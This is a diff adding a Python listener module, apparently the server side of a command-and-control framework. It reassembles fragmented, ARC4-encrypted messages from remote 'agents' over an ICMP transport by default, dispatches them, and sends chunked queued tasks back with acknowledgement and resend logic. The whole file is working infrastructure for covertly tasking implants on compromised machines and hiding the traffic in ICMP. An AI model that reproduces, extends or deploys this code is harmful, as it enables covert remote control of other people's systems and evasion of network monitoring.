@@ -0,0 +1,163 @@
+#!/usr/bin/env python3
+# -*- coding:utf-8 -*-
+from lib import arc4
+from lib import buffer
+from lib import shard
+from lib import metrics
+from lib import callback
+from lib import transport
+from lib import reassembly
+
+# Every fragment, in either direction, starts with this header:
+#   agent_id, message_id, message_length, chunk_length, chunk_index
+# followed by chunk_index's slice of the ARC4 encrypted message. A fragment
+# with a message_length of 0 carries no data: from an agent it is a poll for
+# queued tasks, from the listener it means nothing is queued.
+#
+# A poll also acknowledges what it has been sent: its message_id names the
+# message from the listener being received and its chunk_index the chunk it
+# wants next, so every chunk before it has arrived. The listener answers with
+# that chunk, and only forgets the message once a poll asks for the chunk
+# past its end. Polls naming any other message, and fragments carrying data,
+# acknowledge nothing and are answered with the first chunk not yet
+# acknowledged, so a lost reply is simply sent again.
+FRAGMENT_SCHEMA = buffer.Schema( '<IIIHH' )
+
+# How many chunks of queued tasks to send the agent per message
+OUTBOUND_ROUND_CHUNKS = 64
+
+class SckServer:
+    """
+    The listener. Reassembles the messages agents send as fragments over the
+    transport, decrypts them and hands them to the callbacks, then answers
+    each fragment with the next chunk of the agent's queued tasks.
+    """
+    def __init__( self, ghost, transport_name = 'icmp', workers = 0 ):
+        # set the primary ghost object
+        self.ghost = ghost
+
+        # set the callback handler
+        self.callback = callback.Callback( ghost );
+
+        # reassembles the incoming fragments
+        self.reassembler = reassembly.Reassembler();
+
+        # the message being sent back to each agent keyed by agent_id
+        self.outbound = {}
+        self.outbound_id = 0
+
+        # set the transport carrying the fragments
+        self.transport = transport.TRANSPORTS[ transport_name ]( self );
+
+        # worker processes to decode messages in, or none to decode here
+        self.workers = workers
+        self.shards = None
+
+    async def start( self, listener_host ):
+        """
+        Starts the workers, if any, and the transport listening on the
+        specified host.
+        """
+        if self.workers:
+            self.shards = shard.ShardPool( self, self.workers );
+            self.shards.start();
+
+        return await self.transport.start( listener_host );
+
+    async def stop( self ):
+        """
+        Stops the transport and the workers.
+        """
+        await self.transport.stop();
+
+        if self.shards is not None:
+            await self.shards.stop();
+            self.shards = None
+
+    @metrics.timed()
+    async def sck_fragment( self, fragment ):
+        """
+        Processes one fragment from an agent and returns the fragment to send
+        back to it.
+        """
+        # Parse the fragment header
+        bfparser = buffer.Parser( fragment );
+        agent_id, message_id, message_length, chunk_length, chunk_index = bfparser.get_schema( FRAGMENT_SCHEMA );
+
+        # Count it
+        metrics.count( 'listener_fragments' );
+        metrics.count( 'listener_bytes', len( fragment ) );
+
+        # Add it to its message, unless it is just a poll
+        message = self.reassembler.add( agent_id, message_id, message_length, chunk_length, chunk_index, bfparser.get_buff_left() ) if message_length else None
+
+        # Was that the last piece? Decrypt it and dispatch it, in its shard's
+        # worker if we have them and it is worth sending there
+        if message is not None:
+            metrics.count( 'listener_messages' );
+
+        if message_length == 0:
+            # A poll still shows the agent is alive
+            await self.callback.seen( agent_id );
+        elif message is not None and self.shards is not None and self.shards.wants( agent_id, message ):
+            await self.shards.submit( agent_id, message );
+        elif message is not None:
+            await self.callback.parse( agent_id, arc4.get( self.ghost.key ).process( message ) );
+
+        # Answer with whatever is queued for the agent, taking a poll as
+        # acknowledging what it has received
+        if message_length == 0:
+            return await self._outbound_next( agent_id, chunk_length, message_id, chunk_index );
+
+        return await self._outbound_next( agent_id, chunk_length );
+
+    def outbound_drop( self, agent_id ):
+        """
+        Forgets the message being sent to the agent, if any.
+        """
+        self.outbound.pop( agent_id, None );
+
+    async def _outbound_next( self, agent_id, chunk_length, message_id = 0, chunk_index = 0 ):
+        """
+        Returns the chunk of the message being sent to the agent that it asked
+        for, or the first it has not acknowledged. A new message is started
+        from its task queue once the last one has been acknowledged in full.
+        """
+        outbound = self.outbound.get( agent_id );
+
+        if outbound is not None and message_id == outbound[ 'message_id' ]:
+            # Acknowledged all of it? Forget it and move on to the next
+            if chunk_index * outbound[ 'chunk_length' ] >= len( outbound[ 'message' ] ):
+                del self.outbound[ agent_id ]
+                outbound = None
+            else:
+                # Never step back on a late duplicate
+                outbound[ 'chunk_index' ] = max( outbound[ 'chunk_index' ], chunk_index );
+
+        if outbound is None:
+            # Nothing to send to agents we do not know about
+            if agent_id not in self.ghost.dbs.agent_queues or chunk_length == 0:
+                return FRAGMENT_SCHEMA.prefix.pack( agent_id, 0, 0, chunk_length, 0 );
+
+            # Take as much as fits in one round from the queue
+            message = await self.ghost.dbs.database_agent_get_queue( agent_id, chunk_length * OUTBOUND_ROUND_CHUNKS );
+
+            if not message:
+                return FRAGMENT_SCHEMA.prefix.pack( agent_id, 0, 0, chunk_length, 0 );
+
+            # Start sending it. Polls name no message with 0, so skip it
+            self.outbound_id = self.outbound_id % 0xFFFFFFFF + 1
+            outbound = { 'message_id': self.outbound_id, 'message': arc4.get( self.ghost.key ).process( message ), 'chunk_length': chunk_length, 'chunk_index': 0 };
+            self.outbound[ agent_id ] = outbound
+
+        # Asked for a chunk of this message? Otherwise send the first it has
+        # not acknowledged, again if need be
+        if message_id != outbound[ 'message_id' ]:
+            chunk_index = outbound[ 'chunk_index' ]
+
+        # Cut the chunk
+        offset = chunk_index * outbound[ 'chunk_length' ]
+        chunk  = outbound[ 'message' ][ offset : offset + outbound[ 'chunk_length' ] ]
+        header = FRAGMENT_SCHEMA.prefix.pack( agent_id, outbound[ 'message_id' ], len( outbound[ 'message' ] ), outbound[ 'chunk_length' ], chunk_index );
+
+        return header + chunk